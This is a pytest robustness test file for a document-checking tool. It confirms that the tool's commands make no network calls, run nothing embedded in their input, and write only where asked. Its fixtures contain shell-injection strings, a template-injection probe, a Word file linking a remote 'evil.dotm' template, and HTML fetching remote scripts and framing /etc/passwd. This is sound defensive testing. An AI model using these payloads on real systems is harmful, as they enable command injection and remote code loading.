"""No command touches the network, runs anything that stands in its input, or writes where it was not asked to."""

from __future__ import annotations

import os
import shutil
import socket
import stat
import subprocess
import sys
from pathlib import Path

import pytest

if sys.platform == "win32":
    pytest.skip("the limits of these commands need POSIX", allow_module_level=True)

from tests.robustness import hostile
from tests.robustness.watched import Watched, watched
from zhenggai.reporting.writers import WRITERS

FORMATS = [name for name in WRITERS if name != "pdf"]
_OUTSIDE = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
    'Target="http://198.51.100.1/evil.dotm" TargetMode="External"/></Relationships>'
)
_PAGE = """<html><head><link rel=stylesheet href=http://198.51.100.1/a.css><base href=http://198.51.100.1/>
<script src=http://198.51.100.1/a.js></script><meta http-equiv=refresh content="0;url=http://198.51.100.1/"></head><body>
<img src=http://198.51.100.1/a.png><iframe src=file:///etc/passwd></iframe><script>document.write("x")</script>"""


@pytest.fixture
def notices(tmp_path: Path) -> Path:
    """A folder with a notice in every format that asks for something from elsewhere."""
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "a.txt").write_text(hostile.NOTICE + "$(touch evil) `touch evil` ;touch evil; {{7*7}} ${IFS}\n")
    (folder / "b.html").write_text(_PAGE + "".join(f"<p>{line}</p>" for line in hostile.NOTICE.splitlines()))
    (folder / "c.docx").write_bytes(hostile.word(**{"word___rels__settings.xml.rels": _OUTSIDE.encode()}))
    (folder / "d.md").write_text(hostile.NOTICE + "![x](http://198.51.100.1/a.png)\n")
    return folder


def quiet(found: Watched) -> Watched:
    assert found.outcome.status in (0, 1), found.outcome
    assert [event for event in found.events if event[0].startswith(("socket", "urllib"))] == []
    return found


def test_the_spy_sees_and_stops_connections(tmp_path: Path) -> None:
    code = "import socket; socket.create_connection(('198.51.100.1', 80), 1)"
    environment = {
        **os.environ,
        "PYTHONPATH": str(Path(__file__).parent / "spy"),
        "SPY_LOG": str(tmp_path / "log"),
    }
    done = subprocess.run([sys.executable, "-c", code], env=environment, capture_output=True, check=False)
    assert b"no network in this test" in done.stderr
    assert "socket.getaddrinfo" in (tmp_path / "log").read_text()
    assert socket.AF_INET  # the rest of the tests may connect


def test_check_in_every_format(notices: Path, tmp_path: Path) -> None:
    out = tmp_path / "out"
    out.mkdir()
    formats = [option for name in FORMATS for option in ("--format", f"{name}:{out / name}")]
    paths = sorted(notices.iterdir())
    found = quiet(watched(tmp_path / "log", "check", "--no-cache", *formats, *paths))
    assert found.named("subprocess") == found.named("os.") == []
    assert {path.name for path in out.iterdir()} == set(FORMATS)
    assert {path.parent for path in found.written} == {out}, "parts and reports, beside each other"
    assert not list(tmp_path.rglob("evil"))


@pytest.mark.parametrize("command", [("facts", "-f", "json"), ("facts",), ("text",)])
def test_facts_and_text(command: tuple[str, ...], notices: Path, tmp_path: Path) -> None:
    found = quiet(watched(tmp_path / "log", *command, notices / "c.docx"))
    assert found.named("subprocess") == found.named("os.") == []
    assert found.written == set()


def test_batch(notices: Path, tmp_path: Path) -> None:
    (tmp_path / "temporary").mkdir()
    arguments = ("batch", notices, "--out", tmp_path / "out", "--jobs", 2)
    found = quiet(watched(tmp_path / "log", *arguments, TMPDIR=str(tmp_path / "temporary")))
    assert found.named("os.") == []
    # Python tries whether it can write into the temporary folder
    elsewhere = [path for path in found.written if path.parent != tmp_path / "temporary"]
    assert all(tmp_path / "out" in path.parents for path in elsewhere), elsewhere
    assert list((tmp_path / "temporary").iterdir()) == []


def test_rules_and_annotate(notices: Path, tmp_path: Path) -> None:
    quiet(watched(tmp_path / "log", "rules", "list"))
    found = quiet(watched(tmp_path / "log2", "annotate", notices / "c.docx", "-o", tmp_path / "marked.docx"))
    assert {path.parent for path in found.written} == {tmp_path}


def test_a_pdf_starts_python_and_nothing_else(tmp_path: Path) -> None:
    from tests.reading.pdf_file import Typesetter

    setter = Typesetter()
    for line in hostile.NOTICE.splitlines():
        setter.paragraph(line)
    (tmp_path / "a.pdf").write_bytes(setter.data())
    found = quiet(watched(tmp_path / "log", "check", "--no-cache", tmp_path / "a.pdf"))
    assert [what.startswith(f"({sys.executable!r}") for what in found.named("subprocess")] == [True]
    assert found.written == set()


@pytest.mark.parametrize("switch", [("--no-cache",), ()])
def test_what_is_kept_and_for_whom(switch: tuple[str, ...], notices: Path, tmp_path: Path) -> None:
    """With the loosest umask: the cache is the user's alone, and ``--no-cache`` leaves nothing at all."""
    home, temporary = tmp_path / "home", tmp_path / "temporary"
    home.mkdir()
    temporary.mkdir()
    places = {
        "XDG_CACHE_HOME": str(home),
        "TMPDIR": str(temporary),
        "HOME": str(home),
        "ZHENGGAI_CACHE": "on",
    }
    before = os.umask(0)
    try:
        found = quiet(watched(tmp_path / "log", "check", *switch, notices / "a.txt", **places))
    finally:
        os.umask(before)
    assert list(temporary.iterdir()) == []
    kept = list(home.rglob("*"))
    assert bool(kept) is not bool(switch)
    assert all(stat.S_IMODE(path.stat().st_mode) == (0o700 if path.is_dir() else 0o600) for path in kept)
    assert all(home in path.parents for path in found.written)


def test_the_cache_is_off_by_the_environment(notices: Path, tmp_path: Path) -> None:
    found = quiet(
        watched(
            tmp_path / "log",
            "check",
            notices / "a.txt",
            XDG_CACHE_HOME=str(tmp_path / "home"),
            ZHENGGAI_CACHE="off",
        )
    )
    assert found.written == set() and not (tmp_path / "home").exists()


@pytest.mark.skipif(shutil.which("git") is None, reason="git is not here")
def test_the_spy_sees_programs(notices: Path, tmp_path: Path) -> None:
    found = watched(tmp_path / "log", "check", "--no-cache", "--changed-since", "HEAD", notices / "a.txt")
    assert "git" in found.named("subprocess")[0]
